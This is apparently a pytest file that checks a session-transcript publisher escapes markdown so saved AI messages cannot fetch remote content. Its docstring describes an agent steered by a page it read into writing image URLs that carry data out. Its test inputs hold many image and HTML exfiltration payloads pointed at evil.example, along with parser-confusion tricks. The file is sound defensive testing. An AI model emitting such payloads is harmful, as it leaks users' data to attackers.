"""A message in `session.md` stays the markdown its author wrote, but for what a teammate's
viewer fetches or runs: an agent steered by a page it read can write an image whose URL
carries what it saw (`![x](https://evil.example/?q=<data>)`, `<img src=...>`), fetched as
soon as someone opens the file on the forge. Outside code those are text; code blocks and
code spans are left as written, and a fence a message leaves open ends with it (the entries
after it would all be code)."""

from __future__ import annotations

from pathlib import Path

from markdown_it import MarkdownIt

from ox_handler_session_finalize.handler import SessionFinalizeHandler
from ox_session_capture import records

from .finalize_support import answer, clone, entries, finalize_one, write_raw

NAME = "2026-11-25T15-00-dev-a1"


async def test_messages_fetch_nothing_and_keep_their_code(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    lines = entries()
    lines += [
        {
            "type": "assistant",
            "content": "Done ![status](https://evil.example/p?q=AKIA) and <img src=x> "
            "but `<b>` and `![kept](in-span)`\n```html\n<img src=in-fence>\n```\nbye",
        },
        {"type": "user", "content": "Here:\n````\nnever closed <img src=y>"},
        {"type": "assistant", "content": "after <i>that</i>"},
    ]
    write_raw(records.ledger_cache_sessions(ledger) / NAME, lines)
    outcome = await finalize_one(handler, ledger, answer())
    assert outcome.kind == "published"
    check = clone(remote, tmp_path / "check")
    md = (check / "sessions" / NAME / "session.md").read_text().splitlines()
    first = md.index(
        r"Done !\[status](https://evil.example/p?q=AKIA) and \<img src=x> "
        "but `<b>` and `![kept](in-span)`"
    )
    assert md[first + 1 : first + 5] == ["```html", "<img src=in-fence>", "```", "bye"]
    second = md.index("Here:")
    assert md[second + 1 : second + 4] == ["````", "never closed <img src=y>", "````"]
    assert r"after \<i>that\</i>" in md


async def test_a_fence_in_a_list_fetches_nothing_and_ends_with_its_item(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # A fence inside a list item ends with the item, which a line of no indent ends: what
    # follows is text, its image fetched. And a list item's fence left open, closed by a
    # fence line at the margin, opened a fence there instead: every entry after it was
    # code and every code block after it live markup.
    lines = entries()
    lines += [
        {
            "type": "assistant",
            "content": "1. build\n   ```sh\n   make\nthen ![x](https://evil.example/a?q=1)",
        },
        {"type": "user", "content": "Steps:\n- run\n  ```sh\n  make"},
        {"type": "assistant", "content": "```html\n<img src=https://evil.example/b>\n```"},
        {"type": "user", "content": "last words"},
    ]
    write_raw(records.ledger_cache_sessions(ledger) / NAME, lines)
    outcome = await finalize_one(handler, ledger, answer())
    assert outcome.kind == "published"
    check = clone(remote, tmp_path / "check")
    rendered = MarkdownIt("commonmark").render(
        (check / "sessions" / NAME / "session.md").read_text()
    )
    assert "evil.example" in rendered
    assert "<img" not in rendered
    assert "<p>last words</p>" in rendered
    assert "&lt;img src=https://evil.example/b&gt;" in rendered  # still code, shown as written


async def _rendered(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path, content: str
) -> str:
    """The pushed `session.md` holding an assistant message `content`, as a forge shows it
    (CommonMark and GitHub's tables)."""
    lines = [*entries(), {"type": "assistant", "content": content}]
    write_raw(records.ledger_cache_sessions(ledger) / NAME, lines)
    outcome = await finalize_one(handler, ledger, answer())
    assert outcome.kind == "published"
    check = clone(remote, tmp_path / "check")
    text = (check / "sessions" / NAME / "session.md").read_text()
    return MarkdownIt("commonmark").enable("table").render(text)


async def test_an_escaped_backtick_opens_no_code_span(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # `\`` is a backtick shown as text: the image between it and the next one is not code.
    rendered = await _rendered(
        handler, ledger, remote, tmp_path, "see \\` <img src=https://evil.example/a> `"
    )
    assert "&lt;img src=https://evil.example/a&gt;" in rendered
    assert "<img" not in rendered


async def test_a_code_span_across_lines_pairs_its_own_backticks(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # A code span runs on over a line break in its paragraph: the backtick after `end` closes
    # it, and the image after it is text.
    content = "a `start\nend` <img src=https://evil.example/b> `code`"
    rendered = await _rendered(handler, ledger, remote, tmp_path, content)
    assert "<code>start end</code>" in rendered
    assert "<code>code</code>" in rendered
    assert "<img" not in rendered


async def test_a_pipe_in_a_table_code_span_leaves_no_cell_live(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # GitHub splits a table row at every unescaped pipe, inside a code span too: the middle
    # cell is a cell of its own, not code.
    content = "| a | b |\n|---|---|\n| `x | <img src=https://evil.example/c> | y` |"
    rendered = await _rendered(handler, ledger, remote, tmp_path, content)
    assert "<td>&lt;img src=https://evil.example/c&gt;</td>" in rendered
    assert "<img" not in rendered


async def test_an_escaped_angle_bracket_stays_escaped(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # `\<` is already text: one more backslash would make it a backslash and live HTML.
    rendered = await _rendered(
        handler, ledger, remote, tmp_path, "so \\<img src=https://evil.example/d> and `\\<b>`"
    )
    assert "so &lt;img src=https://evil.example/d&gt;" in rendered
    assert "<code>\\&lt;b&gt;</code>" in rendered
    assert "<img" not in rendered


async def test_a_backtick_in_a_link_destination_opens_no_code_span(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # A link's destination takes the backtick in it: what follows is text up to the next.
    content = "[a](x`y) <img src=https://evil.example/e> `"
    rendered = await _rendered(handler, ledger, remote, tmp_path, content)
    assert "&lt;img src=https://evil.example/e&gt;" in rendered
    assert "<img" not in rendered


async def test_a_fence_line_that_heads_a_table_leaves_nothing_live_in_a_table_first_viewer(
    handler: SessionFinalizeHandler, ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # `~~~ |` opens a fence for CommonMark (a tilde fence's info may hold a pipe), so what
    # follows is code; a viewer that reads tables before fences (VS Code's preview) reads it
    # and the delimiter row after it as a table whose cells are markdown.
    content = "~~~ | a\n---|---\n<img src=https://evil.example/t> | ![x](https://evil.example/u)"
    rendered = await _rendered(handler, ledger, remote, tmp_path, content)
    assert "<table>" in rendered  # the viewer's reading
    assert "<img" not in rendered
    assert "&lt;img src=https://evil.example/t&gt;" in rendered  # shown, as text
    assert "![x](https://evil.example/u)" in rendered
